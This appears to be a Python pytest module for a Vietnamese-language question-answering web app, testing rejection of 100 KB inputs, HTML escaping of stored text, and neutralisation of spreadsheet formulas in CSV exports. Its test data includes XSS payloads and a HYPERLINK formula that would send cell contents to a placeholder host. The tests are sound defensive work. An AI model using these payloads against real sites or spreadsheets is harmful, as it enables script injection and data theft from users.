"""Words that people write, as an attack: 100 KB of markup, markup that fits, and formulas,
everywhere that something is written and everywhere that it is read."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from starlette.testclient import TestClient

from rag.web.services import Services
from tests.web.callers import PASSWORD, Callers, calling, guarded
from tests.web.making import BRIDGE

MARKUP = "<script>alert('x')</script><img src=x onerror=alert(1)>"
LONG = MARKUP * 2000
SIGNS = tuple("=+-@\t\r\n＝＋－＠")
FORMULA = '=HYPERLINK("http://xau.example/?"&A1,"xem")'
ASKED = "=cầu treo Huổi Tằm thông xe ngày nào?"


@pytest.fixture(scope="module")
def callers(services: Services) -> Iterator[Callers]:
    with calling(guarded(services)) as made:
        bridge = BRIDGE | {"section": "@SUM(1+1)", "title": f"+Cầu treo {MARKUP}"}
        assert made["admin key"].put("/api/v1/articles/cau-treo", json=bridge).is_success
        yield made


@pytest.fixture(scope="module")
def answer(callers: Callers) -> dict[str, Any]:
    made: dict[str, Any] = callers["ask"].post("/api/v1/answers", json={"question": ASKED}).json()
    assert made["status"] == "answered"
    return made


# Who writes, where, and what of it is too long.
ANSWER = "/api/v1/answers/{answer}"
WRITTEN = [
    ("ask", "POST", "/api/v1/answers", {"question": LONG}),
    ("ask", "POST", f"{ANSWER}/feedback", {"rating": "down", "note": LONG}),
    ("reviewer", "POST", f"{ANSWER}/verdicts", {"marker": 1, "verdict": "partial", "note": LONG}),
    ("reviewer", "POST", f"{ANSWER}:flag", {"reason": LONG}),
    ("reviewer", "POST", f"{ANSWER}:gold", {"article_ids": ["cau-treo"], "answers": [LONG]}),
    ("reviewer", "POST", f"{ANSWER}:gold", {"article_ids": [LONG]}),
    ("editor", "POST", f"{ANSWER}:hide", {"reason": LONG}),
    ("editor", "POST", f"{ANSWER}:correct", {"text": LONG}),
    ("editor", "POST", "/api/v1/articles/cau-treo/reinstate", {"reason": LONG}),
    (
        "reviewer",
        "POST",
        "/api/v1/requests",
        {"kind": "reply", "article_id": "cau-treo", "text": LONG, "received_on": "2024-05-07"},
    ),
    (
        "reviewer",
        "POST",
        "/api/v1/requests",
        {
            "kind": "reply",
            "article_id": "cau-treo",
            "text": "Xin sửa.",
            "received_on": "2024-05-07",
            "contact": LONG,
        },
    ),
    ("admin", "POST", "/api/v1/keys", {"name": LONG, "scopes": ["ask"]}),
    (
        "admin",
        "POST",
        "/api/v1/users",
        {"name": "ai", "display_name": LONG, "role": "editor", "password": PASSWORD},
    ),
    ("admin", "PUT", "/api/v1/users/lan/password", {"password": LONG}),
]


@pytest.mark.parametrize(
    ("caller", "method", "path", "body"), WRITTEN, ids=lambda one: str(one)[:40]
)
def test_100_kb_of_markup_are_refused_and_not_said_again(
    callers: Callers,
    services: Services,
    answer: dict[str, Any],
    caller: str,
    method: str,
    path: str,
    body: dict[str, Any],
) -> None:
    assert len(LONG) > 100_000
    entries = services.store.audit.entries(limit=1)
    refused = callers[caller].request(method, path.format(answer=answer["id"]), json=body)
    assert refused.status_code in (413, 422), refused.text
    assert refused.headers["Content-Type"] == "application/problem+json"
    assert len(refused.json()["detail"]) > 20
    assert len(refused.text) < 2_000
    assert "<script>" not in refused.text
    assert services.store.audit.entries(limit=1) == entries  # nothing was done


def test_a_sign_in_of_100_kb_is_refused(callers: Callers) -> None:
    for form in ({"ten": LONG, "mat_khau": PASSWORD}, {"ten": "lan", "mat_khau": LONG}):
        refused = callers["reader"].post("/dang-nhap", data=form, headers={"Accept": "text/html"})
        assert refused.status_code in (413, 422)
        assert "alert(" not in refused.text


@pytest.fixture(scope="module")
def written(callers: Callers, answer: dict[str, Any]) -> str:
    """Markup and formulas that fit, wherever words are taken; the answer's id."""

    def done(client: TestClient, path: str, body: dict[str, Any]) -> Any:
        given = client.post(path, json=body)
        assert given.is_success, given.text
        return given.json()

    address = f"/api/v1/answers/{answer['id']}"
    note = f"{FORMULA}{MARKUP}"
    done(callers["ask"], f"{address}/feedback", {"rating": "down", "note": f"-2+3 {MARKUP}"})
    done(callers["ask"], f"{address}/feedback", {"rating": "down", "marker": 1, "note": note})
    verdict = {"marker": 1, "verdict": "partial", "note": note}
    done(callers["reviewer"], f"{address}/verdicts", verdict)
    done(callers["editor"], f"{address}:hide", {"reason": note})
    done(callers["editor"], f"{address}:restore", {"reason": note})
    done(callers["editor"], f"{address}:correct", {"text": note})
    done(callers["reviewer"], f"{address}:gold", {"article_ids": ["cau-treo"], "answers": [note]})
    asked = {
        "kind": "reply",
        "article_id": "cau-treo",
        "text": note,
        "received_on": "2024-05-07",
        "name": note,
        "contact": note,
    }
    request = done(callers["reviewer"], "/api/v1/requests", asked)
    refusal = {"action": "refuse", "note": note}
    done(callers["editor"], f"/api/v1/requests/{request['id']}/entries", refusal)
    done(callers["admin"], "/api/v1/keys", {"name": f"={MARKUP}", "scopes": ["ask"]})
    account = {"name": "chi", "display_name": f"+{MARKUP}", "role": "editor", "password": PASSWORD}
    done(callers["admin"], "/api/v1/users", account)
    hook = {"url": "https://nhan.example/", "events": ["answer.flagged"], "description": MARKUP}
    done(callers["admin"], "/api/v1/webhooks", hook)
    return str(answer["id"])


SAY_IT = [
    "/kiem-chung/muc/{answer}/1",
    "/kho-bai/bai",
    "/kho-bai/bai/cau-treo",
    "/kho-bai/bai/cau-treo/sua",
    "/kho-bai/yeu-cau",
    "/quan-tri",
    "/quan-tri/webhook",
    "/bai/cau-treo",
    "/tra-loi/{answer}",
]
OTHERS = [
    "/kiem-chung",
    "/kiem-chung?xem=judged",
    "/kiem-chung/danh-sach?xem=judged",
    "/kiem-chung/so-lieu",
    "/kho-bai",
    "/kho-bai/chua-tra-loi",
    "/nhat-ky",
]


@pytest.mark.parametrize("path", [*SAY_IT, *OTHERS])
def test_what_people_wrote_is_text_on_every_page(callers: Callers, written: str, path: str) -> None:
    page = callers["admin"].get(path.format(answer=written), headers={"Accept": "text/html"})
    assert page.status_code == 200
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
    assert path in OTHERS or "&lt;script&gt;alert" in page.text


@pytest.mark.parametrize("what", ["answers", "verdicts", "audit"])
def test_no_cell_of_an_export_is_a_formula(callers: Callers, written: str, what: str) -> None:
    text = callers["admin"].get(f"/api/v1/exports/{what}", params={"format": "csv"}).text
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(rows) > 1
    assert [len(row) for row in rows] == [len(rows[0])] * len(rows)
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(SIGNS)] == []
    expected = {
        "answers": [f"'{ASKED}", "'@SUM(1+1)"],
        "verdicts": [f"'{FORMULA}{MARKUP}", "'@SUM(1+1)"],
        "audit": ["lan", "minh"],
    }
    assert set(expected[what]) <= set(cells)


def test_the_record_holds_none_of_it(callers: Callers, written: str) -> None:
    text = callers["admin"].get("/api/v1/exports/audit", params={"format": "jsonl"}).text
    assert written in text
    assert "xau.example" not in text
    assert "onerror" not in text.replace(f"={MARKUP}", "")  # a key's name is no secret
